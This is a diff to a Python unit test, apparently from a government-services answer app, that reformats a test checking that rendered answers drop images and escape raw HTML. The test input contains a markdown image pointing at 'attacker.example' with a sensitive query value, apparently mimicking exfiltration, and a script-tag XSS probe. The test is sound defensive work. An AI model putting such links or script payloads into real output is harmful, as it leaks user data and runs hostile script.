@@ -28,6 +28,8 @@ def test_long_date_in_govuk_style() -> None:
 def test_answer_text_is_rendered_without_images_or_raw_html() -> None:
     from onestop.ui.common import answer_markdown
 
-    shown = answer_markdown('Pay SSP. ![x](https://attacker.example/?q=cancer) <script>alert(1)</script> [GOV.UK](https://www.gov.uk/)')
+    shown = answer_markdown(
+        "Pay SSP. ![x](https://attacker.example/?q=cancer) <script>alert(1)</script> [GOV.UK](https://www.gov.uk/)"
+    )
     assert "attacker" not in shown and "<script>" not in shown and "&lt;script&gt;" in shown
     assert "[GOV.UK](https://www.gov.uk/)" in shown  # our own source links stay
